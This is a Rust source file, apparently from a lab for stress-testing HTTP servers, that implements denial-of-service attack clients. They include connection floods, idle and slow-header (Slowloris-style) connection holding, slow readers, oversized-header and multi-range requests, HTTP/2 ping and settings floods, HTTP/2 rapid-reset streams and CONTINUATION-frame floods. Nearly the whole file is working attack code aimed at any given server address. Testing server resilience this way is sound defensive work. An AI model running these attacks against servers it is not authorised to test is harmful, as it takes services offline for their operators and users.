//! Attacks: clients that take what they can of a server. They run in a process of their own, until it is killed.

use std::io::{self, Read, Write};
use std::mem;
use std::net::{SocketAddr, TcpStream};
use std::thread::sleep;
use std::time::{Duration, Instant};

use clap::Args;
use rustix::net::sockopt::{set_socket_linger, set_socket_recv_buffer_size};
use rustix::net::{AddressFamily, SocketFlags, SocketType, connect, socket_with};

use super::http2_frames::{
    CONTINUATION, HEADERS, Http2Requests, PING, RST_STREAM, SETTINGS, frame, opening, settings_ack,
};
use super::request::RequestForm;
use crate::error::LabError;
use crate::records::attacks::AttackKind;

/// Options of `tarpon-lab attacker`.
#[derive(Args)]
pub(crate) struct AttackerArgs {
    /// Attack in this way
    #[arg(value_enum)]
    kind: AttackKind,
    /// Attack this server
    #[arg(long, value_name = "ADDRESS")]
    server: SocketAddr,
    /// Request this path
    #[arg(long, value_name = "PATH")]
    path: String,
    /// Hold this many idle connections
    #[arg(long, value_name = "COUNT", default_value_t = IDLE_COUNT_MAX)]
    idle: usize,
    /// Use this share of a core, in the place of an attack
    #[arg(long, value_name = "SHARE")]
    burn: Option<f64>,
}

/// Attacks a server. Ends only with an error that makes an attack impossible.
pub(crate) fn run(args: &AttackerArgs) -> Result<(), LabError> {
    let AttackerArgs { kind, server, path, idle, burn } = args;
    if let Some(share) = burn {
        tell_start()?;
        burn_share(*share);
    }
    if !matches!(kind, AttackKind::Idle | AttackKind::SlowHeads | AttackKind::SlowReaders) {
        tell_start()?;
    }
    let get = RequestForm::Short.request(&server.to_string(), path);
    let get = String::from_utf8(get).expect("a request of ASCII");
    let with_fields = |fields: &str| format!("{}{fields}\r\n", &get[..get.len() - 2]).into_bytes();
    match kind {
        AttackKind::Connections => loop {
            if let Ok(stream) = TcpStream::connect(server) {
                let _ = set_socket_linger(&stream, Some(Duration::ZERO));
            }
        },
        AttackKind::Idle => hold(*idle, || TcpStream::connect(server), |_| Ok(())),
        AttackKind::SlowHeads => {
            let open = || {
                let mut stream = TcpStream::connect(server)?;
                stream.write_all(&get.as_bytes()[..get.len() - 2])?;
                Ok(stream)
            };
            hold(HELD_COUNT, open, |stream| stream.write_all(b"A: b\r\n"))
        }
        AttackKind::SlowReaders => {
            let requests = get.repeat(4);
            let family = if server.is_ipv4() { AddressFamily::INET } else { AddressFamily::INET6 };
            let open = || {
                let socket = socket_with(family, SocketType::STREAM, SocketFlags::CLOEXEC, None)?;
                // The window of the connection follows from it.
                set_socket_recv_buffer_size(&socket, 1)?;
                connect(&socket, server)?;
                let mut stream = TcpStream::from(socket);
                stream.write_all(requests.as_bytes())?;
                Ok(stream)
            };
            hold(HELD_COUNT, open, |_| Ok(()))
        }
        AttackKind::LargeHeads => {
            let fields: String = (0..24).map(|at| format!("X-{at}: {}\r\n", "x".repeat(1000))).collect();
            repeat(*server, &[], &with_fields(&fields))
        }
        AttackKind::Ranges => {
            let ranges: Vec<String> = (0..RANGE_COUNT).map(|at| format!("{at}-{at}")).collect();
            repeat(*server, &[], &with_fields(&format!("Range: bytes={}\r\n", ranges.join(","))))
        }
        AttackKind::Http2Pings => {
            repeat(*server, &http2_opening(), &frame(PING, 0, 0, b"tarponlb").repeat(500))
        }
        AttackKind::Http2Settings => {
            repeat(*server, &http2_opening(), &frame(SETTINGS, 0, 0, &[]).repeat(500))
        }
        AttackKind::Http2Resets => loop {
            let requests = Http2Requests::new("http", &server.to_string(), path, RequestForm::Short);
            let mut frames = http2_opening();
            for stream in (1..20_000).step_by(2) {
                frames.extend_from_slice(&requests.headers(stream));
                frames.extend_from_slice(&frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
            }
            let _ = send_once(*server, &frames, &[]);
        },
        AttackKind::Http2Continuations => {
            let mut first = http2_opening();
            first.extend_from_slice(&frame(HEADERS, 0, 1, &[0x82, 0x86, 0x84]));
            // A field whose name and value are empty, without an entry in the table.
            repeat(*server, &first, &frame(CONTINUATION, 0, 1, &[0, 1, b'a', 0].repeat(1000)))
        }
    }
}

fn http2_opening() -> Vec<u8> {
    [opening(1 << 20), settings_ack()].concat()
}

/// Keeps `count` connections open, opens those again that the server has closed, and does something with each of them every second: with
/// some at a time, as a client on the same core waits for all that is done at once.
fn hold(
    count: usize,
    open: impl Fn() -> io::Result<TcpStream>,
    each: impl Fn(&mut TcpStream) -> io::Result<()>,
) -> Result<(), LabError> {
    let mut streams: Vec<TcpStream> = Vec::new();
    let mut is_complete = false;
    loop {
        while streams.len() < count {
            // A server at its limit refuses some.
            let Ok(stream) = open() else { break };
            stream.set_nonblocking(true)?;
            streams.push(stream);
        }
        if !mem::replace(&mut is_complete, true) {
            tell_start()?;
        }
        let (len, mut ended) = (streams.len(), Vec::new());
        for part in 0..HOLD_PART_COUNT {
            let start = Instant::now();
            let turn = len * part / HOLD_PART_COUNT..len * (part + 1) / HOLD_PART_COUNT;
            for (at, stream) in turn.clone().zip(&mut streams[turn]) {
                let would_block = |error: &io::Error| error.kind() == io::ErrorKind::WouldBlock;
                let is_open = match stream.peek(&mut [0]) {
                    Ok(len) => len > 0,
                    Err(error) => would_block(&error),
                };
                if !is_open || each(stream).is_err_and(|error| !would_block(&error)) {
                    ended.push(at);
                }
            }
            sleep((Duration::from_secs(1) / HOLD_PART_COUNT as u32).saturating_sub(start.elapsed()));
        }
        for at in ended.into_iter().rev() {
            streams.swap_remove(at);
        }
    }
}

/// Tells the lab that the attack, or the burning, has begun: the connections that it holds are open.
fn tell_start() -> io::Result<()> {
    writeln!(io::stdout(), "attacking")
}

/// Sends `first`, then `rest` again and again, and reads what comes back. Connects again after each end.
fn repeat(server: SocketAddr, first: &[u8], rest: &[u8]) -> Result<(), LabError> {
    loop {
        let _ = send_once(server, first, rest);
    }
}

/// Does so on one connection, up to its end. Sends nothing again if `rest` is empty.
fn send_once(server: SocketAddr, first: &[u8], rest: &[u8]) -> io::Result<()> {
    let mut stream = TcpStream::connect(server)?;
    stream.set_nonblocking(true)?;
    let mut input = [0; 65536];
    let (mut bytes, mut at) = (first, 0);
    let mut last_progress = Instant::now();
    loop {
        if at == bytes.len() && !rest.is_empty() {
            (bytes, at) = (rest, 0);
        }
        let written = match stream.write(&bytes[at..]) {
            Ok(len) => len,
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => 0,
            Err(error) => return Err(error),
        };
        at += written;
        let read = match stream.read(&mut input) {
            Ok(0) => return Ok(()),
            Ok(len) => len,
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => 0,
            Err(error) => return Err(error),
        };
        if written + read > 0 {
            last_progress = Instant::now();
        } else if last_progress.elapsed() > STALL_MAX {
            return Ok(());
        } else {
            sleep(Duration::from_micros(50));
        }
    }
}

/// Uses a share of a core for ever.
fn burn_share(share: f64) -> ! {
    const SLICE: Duration = Duration::from_millis(1);
    loop {
        let start = Instant::now();
        while start.elapsed() < SLICE.mul_f64(share.clamp(0.0, 1.0)) {
            std::hint::spin_loop();
        }
        sleep(SLICE.saturating_sub(start.elapsed()));
    }
}

/// The most idle connections. One address has ports for 28,000.
pub(crate) const IDLE_COUNT_MAX: usize = 20_000;

/// Parts of a second, in each of which as many of the held connections have their turn.
const HOLD_PART_COUNT: usize = 250;

/// Connections that the slow attacks hold.
const HELD_COUNT: usize = 1000;

/// Ranges in one request: the field fits into a head of 16 KiB.
const RANGE_COUNT: usize = 1300;

/// How long a connection may make no progress before the attacker opens another one.
const STALL_MAX: Duration = Duration::from_secs(1);
